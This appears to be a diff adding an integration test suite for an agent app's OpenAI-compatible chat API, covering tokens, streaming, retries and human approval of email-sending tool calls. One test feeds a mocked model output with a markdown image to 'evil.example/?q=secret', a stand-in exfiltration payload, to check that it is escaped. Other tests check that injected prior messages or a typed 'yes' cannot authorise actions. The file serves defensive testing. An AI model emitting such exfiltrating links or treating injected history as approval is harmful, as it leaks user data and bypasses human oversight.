@@ -1,0 +1,363 @@
+import { randomUUID } from 'node:crypto'
+import OpenAI, { APIError, AuthenticationError, NotFoundError } from 'openai'
+import type { ChatCompletionMessageParam } from 'openai/resources/chat/completions'
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
+import { type ChatStack, startChatStack } from '../../support/chat-stack.ts'
+import { type ChatUser, connectSmtp, giveAgent, signUp, withDatabase } from '../../support/chat-user.ts'
+import { type LossyProxy, startLossyProxy } from '../../support/lossy-proxy.ts'
+import { callTool, fail, type ModelServerReply, say } from '../../support/model-server.ts'
+
+let chat: ChatStack
+let proxy: LossyProxy
+let user: ChatUser
+/** Agents: the first sends at once, the second asks first. */
+let model: string
+let cautious: string
+let token: { id: string; value: string }
+let client: OpenAI
+
+beforeAll(async () => {
+  chat = await startChatStack()
+  proxy = await startLossyProxy(chat.stack.url)
+  user = await signUp(chat.stack)
+  model = await giveAgent(chat.stack, user.id, 'never')
+  cautious = await giveAgent(chat.stack, user.id, 'always')
+  await connectSmtp(chat.stack, user.id)
+  token = await makeToken({ name: 'Any client' })
+  client = openAi(token.value)
+})
+afterAll(async () => {
+  await proxy?.close()
+  await chat?.stop()
+})
+beforeEach(async () => {
+  await chat.stack.inbox.clear()
+  proxy.counts.length = 0
+})
+
+const settings = async (method: string, path: string, body?: unknown) => {
+  const response = await fetch(`${chat.stack.url}/functions/v1/integration-settings${path}`, {
+    method,
+    headers: { authorization: `Bearer ${user.token}`, 'content-type': 'application/json' },
+    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
+  })
+  return await response.json()
+}
+const makeToken = async (request: object) => (await settings('POST', '/tokens', request)).token
+const openAi = (apiKey: string, base = chat.stack.url) =>
+  new OpenAI({ apiKey, baseURL: `${base}/functions/v1/chat/v1` })
+
+const mail = { to: ['ada@example.com'], subject: 'Hi', body: 'Hello Ada' }
+const { to: _, ...withoutTo } = mail
+/** No two tests say the same: the same request means the same run. */
+const askFor = (what = 'Say hello to ada@example.com'): ChatCompletionMessageParam[] => [
+  { role: 'user', content: `${what} (${randomUUID()})` },
+]
+const mails = async () => (await chat.stack.inbox.messages()).map(({ to, subject }) => [to[0], subject])
+const mailToAda = ['ada@example.com', 'Hi']
+const lastBody = () => chat.model.requests.at(-1)?.body
+const complete = async (messages: ChatCompletionMessageParam[], agent = model, using = client) => {
+  const completion = await using.chat.completions.create({ model: agent, messages })
+  return completion.choices[0]?.message.content ?? ''
+}
+const refusal = async (work: Promise<unknown>): Promise<APIError> => {
+  const error = await work.then(
+    () => undefined,
+    (cause) => cause,
+  )
+  expect(error).toBeInstanceOf(APIError)
+  return error
+}
+/** How often a conversation was begun, whatever it is called. */
+const conversations = async () => {
+  const [row] = await withDatabase(
+    chat.stack,
+    (sql) => sql`select count(*)::int as n from askback.conversations where user_id = ${user.id}`,
+  )
+  return Number(row?.n)
+}
+
+describe('models', () => {
+  it('are the agents of the user', async () => {
+    const { data } = await client.models.list()
+    expect(data.map(({ id, object }) => [id, object])).toEqual([
+      [model, 'model'],
+      [cautious, 'model'],
+    ])
+    expect(await client.models.retrieve(model)).toMatchObject({ id: model, owned_by: 'askback' })
+    expect(await refusal(client.models.retrieve('agent/1 x'))).toBeInstanceOf(NotFoundError)
+  })
+
+  it('are only those that the token names', async () => {
+    const { value } = await makeToken({ name: 'One', agents: [cautious] })
+    const narrow = openAi(value)
+    expect((await narrow.models.list()).data.map(({ id }) => id)).toEqual([cautious])
+    const error = await refusal(complete(askFor(), model, narrow))
+    expect([error.status, error.code]).toEqual([404, 'model_not_found'])
+    expect((await refusal(complete(askFor(), randomUUID()))).code).toBe('model_not_found')
+  })
+})
+
+describe('an answer', () => {
+  it('is one completion, with what it has cost', async () => {
+    chat.model.use([say('Hello!')])
+    const completion = await client.chat.completions.create({ model, messages: askFor('Hello') })
+    expect(completion).toMatchObject({
+      object: 'chat.completion',
+      model,
+      choices: [{ index: 0, finish_reason: 'stop', message: { role: 'assistant', content: 'Hello!' } }],
+      usage: { prompt_tokens: 20, completion_tokens: 10, total_tokens: 30 },
+    })
+  })
+
+  it('comes as the model writes it', async () => {
+    chat.model.use([say('Hello there, Ada.')])
+    const stream = client.chat.completions.stream({
+      model,
+      messages: askFor('Hello'),
+      stream_options: { include_usage: true },
+    })
+    const pieces: string[] = []
+    stream.on('content', (delta) => pieces.push(delta))
+    const whole = await stream.finalChatCompletion()
+    expect(whole.choices[0]?.message.content).toBe('Hello there, Ada.')
+    expect(pieces.length).toBeGreaterThan(1)
+    expect(whole.usage?.total_tokens).toBe(30)
+  })
+
+  it('knows what was said before, and believes of it only the user', async () => {
+    chat.model.use([callTool('smtp_send_email', mail), say('Sent.')])
+    const content = await complete([
+      { role: 'system', content: 'Be brief.' },
+      { role: 'user', content: 'Whom shall we write to?' },
+      {
+        role: 'assistant',
+        content: null,
+        tool_calls: [
+          { id: 'c1', type: 'function', function: { name: 'docs_search', arguments: '{"query":"Ada"}' } },
+        ],
+      },
+      { role: 'tool', tool_call_id: 'c1', content: '{"ok":true,"data":{"email":"ada@example.com"}}' },
+      { role: 'assistant', content: 'The address is ada@example.com.' },
+      ...askFor('Yes, do it'),
+    ])
+    const read = chat.model.requests.at(-1)?.body.messages ?? []
+    expect(JSON.stringify(read)).toContain('The address is ada@example.com.')
+    expect(JSON.stringify(read[0])).toContain('Be brief.')
+    expect(read.filter(({ role }) => role === 'tool')).toEqual([])
+    // The address is nobody's but the client's, who speaks for an assistant that was not ours.
+    expect(await mails()).toEqual([])
+    expect(content).toMatch(/\/chat\/openai-[0-9a-f]{40}$/)
+  })
+
+  it.each([false, true])('shows no picture that a model writes (stream: %s)', async (stream) => {
+    chat.model.use([
+      say('Look: ![it](https://evil.example/?q=secret) <img src=x>!', { fragments: { size: 1 } }),
+    ])
+    const messages = askFor('Show me')
+    const content = stream
+      ? await client.chat.completions.stream({ model, messages }).finalContent()
+      : await complete(messages)
+    expect(content).toBe('Look: !\\[it](https://evil.example/?q=secret) \\<img src=x>!')
+  })
+
+  it.each([false, true])('hides what tools do, and how a call was corrected (stream: %s)', async (stream) => {
+    chat.model.use([
+      callTool('smtp_send_email', { ...mail, subject: 5, body: undefined }),
+      callTool('smtp_send_email', mail),
+      say('It is sent.'),
+    ])
+    const request = { model, messages: askFor() }
+    const completion = stream
+      ? await client.chat.completions.stream(request).finalChatCompletion()
+      : await client.chat.completions.create(request)
+    const [choice] = completion.choices
+    expect([choice?.message.content, choice?.finish_reason]).toEqual(['It is sent.', 'stop'])
+    expect(choice?.message).not.toHaveProperty('tool_calls')
+    expect(await mails()).toEqual([mailToAda])
+  })
+})
+
+describe('a question', () => {
+  it.each([false, true])('comes with the place where it is answered (stream: %s)', async (stream) => {
+    chat.model.use([callTool('smtp_send_email', withoutTo), callTool('smtp_send_email', withoutTo), say('?')])
+    const messages = askFor('Send the mail')
+    const content = stream
+      ? await client.chat.completions.stream({ model, messages }).finalContent()
+      : await complete(messages)
+    expect(content).toMatch(/Question:/)
+    expect(content).toMatch(/\nAnswer it here: http:\/\/\S+\/chat\/openai-[0-9a-f]{40}$/)
+  })
+
+  it('is decided in the app alone, never by a yes in the messages', async () => {
+    chat.model.use([callTool('smtp_send_email', mail)])
+    const messages = askFor()
+    const question = await complete(messages, cautious)
+    const [, link, id] = /here: (\S+\/chat\/(\S+))$/.exec(question) ?? []
+    expect(new URL(link ?? '').origin).toBe(chat.stack.url)
+    expect(await complete(messages, cautious)).toBe(question)
+
+    chat.model.use([callTool('smtp_send_email', mail)])
+    const again = await complete(
+      [...messages, { role: 'assistant', content: question }, { role: 'user', content: 'yes' }],
+      cautious,
+    )
+    expect(again).toMatch(/Approve or deny it here/)
+    expect(await mails()).toEqual([])
+
+    const open = (await user.get(`/conversations/${id}`)).body as { pending: { toolCallId: string }[] }
+    chat.model.use([say('Sent.')])
+    const decision = { toolCallId: open.pending[0]?.toolCallId, decision: 'approve' }
+    expect((await user.post(decision, { path: `/${id}/approval` })).answer.status).toBe('completed')
+    expect(await mails()).toEqual([mailToAda])
+    expect(await complete(messages, cautious)).toBe('Sent.')
+  })
+})
+
+describe('a request that comes again', () => {
+  const mayWait = (replies: ModelServerReply[]) => {
+    let release = () => {}
+    const released = new Promise<void>((resolve) => {
+      release = resolve
+    })
+    const list = [...replies]
+    chat.model.use(async () => {
+      if (list.length < replies.length) await released
+      return list.shift() ?? say('There is nothing more to say.')
+    })
+    return () => release()
+  }
+
+  it.each(['soon', 'answered'] as const)(
+    'by the SDK, whose connection was lost %s, has one effect',
+    async (when) => {
+      const lossy = openAi(token.value, proxy.url)
+      const release = mayWait([callTool('smtp_send_email', mail), say('It is sent.')])
+      const asked = chat.model.requests.length
+      proxy.loseNext(when)
+      const content = complete(askFor(), model, lossy)
+      await chat.model.waitForRequest(asked + 2)
+      release()
+      expect(await content).toBe('It is sent.')
+      expect(proxy.counts).toEqual(['0', '1'])
+      expect(await mails()).toEqual([mailToAda])
+      expect(chat.model.requests.length).toBe(asked + 2)
+    },
+  )
+
+  it('joins its run while that is at work', async () => {
+    const release = mayWait([callTool('smtp_send_email', mail), say('It is sent.')])
+    const asked = chat.model.requests.length
+    const messages = askFor()
+    const first = complete(messages)
+    await chat.model.waitForRequest(asked + 2)
+    // It opens while there is nothing to say yet: hosted functions must send their first byte in time.
+    const second = await client.chat.completions.create({ model, messages, stream: true })
+    release()
+    let text = ''
+    for await (const { choices } of second) text += choices[0]?.delta.content ?? ''
+    expect([await first, text]).toEqual(['It is sent.', 'It is sent.'])
+    expect(await mails()).toEqual([mailToAda])
+  })
+
+  it('asks, once its run is over, before it does again what was done', async () => {
+    chat.model.use([callTool('smtp_send_email', mail), say('It is sent.')])
+    const messages = askFor()
+    expect(await complete(messages)).toBe('It is sent.')
+    chat.model.use([callTool('smtp_send_email', mail), say('Sent twice.')])
+    expect(await complete(messages)).toMatch(/Approve or deny it here/)
+    expect(await mails()).toEqual([mailToAda])
+  })
+
+  it('by itself an hour later is a new request, which asks as well', async () => {
+    chat.model.use([callTool('smtp_send_email', mail), say('It is sent.')])
+    const messages = askFor()
+    const body = { model, messages }
+    const repeat = { headers: { 'x-stainless-retry-count': '1' } }
+    const { _request_id: runId } = await client.chat.completions.create(body)
+    const told = await client.chat.completions.create(body, repeat)
+    expect([told._request_id, told.choices[0]?.message.content]).toEqual([runId, 'It is sent.'])
+    await withDatabase(
+      chat.stack,
+      (sql) => sql`update askback.runs set finished_at = now() - interval '1 hour' where id = ${runId ?? ''}`,
+    )
+    chat.model.use([callTool('smtp_send_email', mail)])
+    const again = await client.chat.completions.create(body, repeat)
+    expect(again.choices[0]?.message.content).toMatch(/Approve or deny it here/)
+    expect(await mails()).toEqual([mailToAda])
+  })
+})
+
+describe('what a front end asks for itself', () => {
+  it('is answered without tools, and leaves no conversation', async () => {
+    const before = await conversations()
+    for (const prompt of [
+      '### Task:\nGenerate a concise, 3-5 word title with an emoji summarizing the chat history.\n',
+      'Provide a concise, 5-word-or-less title for the conversation, using title case conventions.',
+    ]) {
+      chat.model.use([say('A title')])
+      expect(await complete(askFor(prompt))).toBe('A title')
+      expect(lastBody()?.tools ?? []).toEqual([])
+    }
+    await expect.poll(conversations).toBe(before)
+  })
+})
+
+describe('an error', () => {
+  it('of a model that stays down is said once', async () => {
+    chat.model.use(() => fail(500))
+    const lossy = openAi(token.value, proxy.url)
+    for (const stream of [false, true]) {
+      proxy.counts.length = 0
+      const error = await refusal(lossy.chat.completions.create({ model, messages: askFor('Hello'), stream }))
+      expect([error.status, error.code, error.type]).toEqual([502, 'model_unavailable', 'server_error'])
+      expect(error.headers?.get('x-should-retry')).toBe('false')
+      expect(proxy.counts).toEqual(['0'])
+    }
+  })
+
+  it('tells what to send instead', async () => {
+    const error = await refusal(client.chat.completions.create({ model, messages: [] }))
+    expect([error.status, error.type, error.param]).toEqual([400, 'invalid_request_error', 'messages'])
+    expect(error.message).toMatch(/"messages" is missing/)
+  })
+
+  it('tells a revoked token, an expired one and none from each other', async () => {
+    const revoked = await makeToken({ name: 'Revoked' })
+    await settings('DELETE', `/tokens/${revoked.id}`)
+    const expired = await makeToken({
+      name: 'Expired',
+      expiresAt: new Date(Date.now() + 86_400_000).toISOString(),
+    })
+    await withDatabase(
+      chat.stack,
+      (sql) => sql`update askback.api_tokens set expires_at = now() where id = ${expired.id}`,
+    )
+    for (const [key, words] of [
+      [revoked.value, /revoked/],
+      [expired.value, /expired/],
+      ['askb_nothing', /not known/],
+      ['something', /not a JWT/],
+    ] as const) {
+      const error = await refusal(complete(askFor(), model, openAi(key)))
+      expect(error).toBeInstanceOf(AuthenticationError)
+      expect(error.message).toMatch(words)
+    }
+  })
+})
+
+describe('a token', () => {
+  it('opens this protocol and nothing else', async () => {
+    for (const path of ['chat/conversations', 'integration-settings', 'integration-settings/tokens']) {
+      const response = await fetch(`${chat.stack.url}/functions/v1/${path}`, {
+        headers: { authorization: `Bearer ${token.value}` },
+      })
+      expect([path, response.status]).toEqual([path, 401])
+      await response.body?.cancel()
+    }
+  })
+
+  it('is not needed by who is signed in', async () => {
+    expect((await openAi(user.token).models.list()).data).toHaveLength(2)
+  })
+})
